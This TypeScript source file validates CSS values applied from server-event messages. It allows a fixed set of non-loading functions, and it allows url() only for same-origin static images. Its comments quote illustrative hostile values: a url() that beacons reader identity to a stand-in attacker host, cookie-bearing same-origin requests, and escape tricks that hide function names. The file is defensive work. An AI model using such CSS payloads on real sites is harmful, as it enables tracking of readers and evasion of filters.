/**
 * What a `css.{property}$selector value` message may set. A style is a side channel as much as a
 * look: `background-image: url(https://evil.example/?who=you)` tells another origin who is
 * reading the channel and when, and old engines ran `expression(…)`. So a value may call only
 * functions known not to load anything (colours, maths, gradients, transforms, filters), and
 * `url(…)` only for an image file in the page origin's static folders: any other same-origin URL
 * would make every reader's browser call the site with their cookies
 * (`url(/event-stream?channels=spied)` shows who is reading; `url(/api/auth/x.png)` puts an
 * error in the server's log for each reader). Everything else is refused, rather than repaired, so what is applied is
 * always exactly what was sent.
 * @see https://docs.servicestack.net/server-events#css-selectors
 */

/** Longest value applied; a style value has no business being bigger. */
export const MAX_CSS_VALUE_LENGTH = 1000;

// Each of these only computes a value from its arguments: none fetches, none runs code. Notably
// absent: url (handled apart), image-set and -webkit-image-set (take bare strings as URLs), src,
// image, cross-fade, element, paint, attr, expression.
const safeFunctions = new Set(
  [
    "rgb rgba hsl hsla hwb lab lch oklab oklch color color-mix light-dark",
    "calc min max clamp round mod rem abs sign sin cos tan asin acos atan atan2 pow sqrt hypot log exp",
    "var env",
    "linear-gradient radial-gradient conic-gradient",
    "repeating-linear-gradient repeating-radial-gradient repeating-conic-gradient",
    "translate translatex translatey translatez translate3d rotate rotatex rotatey rotatez rotate3d",
    "scale scalex scaley scalez scale3d skew skewx skewy matrix matrix3d perspective",
    "cubic-bezier steps linear",
    "blur brightness contrast drop-shadow grayscale hue-rotate invert opacity saturate sepia",
    "repeat minmax fit-content inset circle ellipse polygon",
  ]
    .join(" ")
    .split(" "),
);

// A backslash escape can spell any name (`u\rl(`, `\75 rl(`), a comment can split one
// (`u/**/rl(` is harmless, but not worth reasoning about), and `;{}` cannot be part of one value.
const forbidden = /[\\;{}]|\/\*/u;

const isNameChar = (c: string): boolean => /[A-Za-z0-9_-]/u.test(c);

/** The function name right before the `(` at `at` (lower case; `""` for a bare parenthesis). */
function functionNameBefore(text: string, at: number): string {
  let start = at;
  while (start > 0 && isNameChar(text[start - 1]!)) start--;
  return text.slice(start, at).toLowerCase();
}

/**
 * The argument of a `url(…)` that runs from `open` to `close` (the parentheses): quoted or not, no
 * escapes (see above). Anything CSS would not read as one URL is refused (`undefined`); so is a
 * quoted URL holding a `)`, which comes out with an unmatched quote.
 */
function urlArgument(text: string, open: number, close: number): string | undefined {
  const inner = text.slice(open + 1, close).trim();
  const quote = inner[0];
  if (quote === '"' || quote === "'") {
    const reference = inner.slice(1, -1);
    const closed = inner.length >= 2 && inner.endsWith(quote) && !reference.includes(quote);
    return closed ? reference : undefined;
  }
  // As CSS tokenizes it: an unquoted URL has no whitespace, quote or parenthesis inside.
  return /[\s"'(]/u.test(inner) ? undefined : inner;
}

/**
 * Whether `pathname` lies where a site keeps its static files (`public/img`, `public/images`,
 * `public/media`, Next's build output, the avatars): never an endpoint, so a page may load it for
 * every reader without acting for them.
 */
export function isStaticFilePath(pathname: string): boolean {
  return /^\/(?:img|images|media|_next\/static|avatars)\//iu.test(pathname);
}

const imageExtension = /\.(?:png|jpe?g|gif|webp|avif|svg|ico)$/iu;

function isSameOriginImage(reference: string, pageHref: string | undefined): boolean {
  if (pageHref === undefined || reference.trim() === "") return false;
  try {
    const url = new URL(reference, pageHref);
    return (
      (url.protocol === "http:" || url.protocol === "https:") &&
      url.origin === new URL(pageHref).origin &&
      isStaticFilePath(url.pathname) &&
      imageExtension.test(url.pathname)
    );
  } catch {
    return false;
  }
}

/** A `css.*` body as the text to apply: strings as they are, `null` as `""`, the rest as JSON. */
export function toCssText(value: unknown): string {
  if (value === null || value === undefined) return "";
  return typeof value === "string" ? value : (JSON.stringify(value) ?? "");
}

/**
 * Why `value` must not be applied as a style, or `undefined` when it may be. Linear in the
 * value's length: each character is looked at a bounded number of times.
 *
 * @param pageHref the page's URL, against which `url(…)` is resolved; without one, no `url(…)`
 *   is allowed.
 */
export function cssValueProblem(value: string, pageHref: string | undefined): string | undefined {
  if (value.length > MAX_CSS_VALUE_LENGTH) return `longer than ${MAX_CSS_VALUE_LENGTH} characters`;
  if (forbidden.test(value)) return "contains a backslash, a comment, ';', '{' or '}'";
  for (let at = value.indexOf("("); at >= 0; at = value.indexOf("(", at + 1)) {
    const name = functionNameBefore(value, at);
    if (name === "url") {
      const close = value.indexOf(")", at);
      const reference = close < 0 ? undefined : urlArgument(value, at, close);
      if (reference === undefined || !isSameOriginImage(reference, pageHref))
        return "url() must name an image under /img/, /images/, /media/, /_next/static/ or /avatars/ on this page's origin";
      at = close; // the argument is a URL, not more CSS: go on after it
    } else if (!safeFunctions.has(name)) {
      return name === "" ? "a bare '(' is not allowed" : `${name}() is not allowed`;
    }
  }
  return undefined;
}
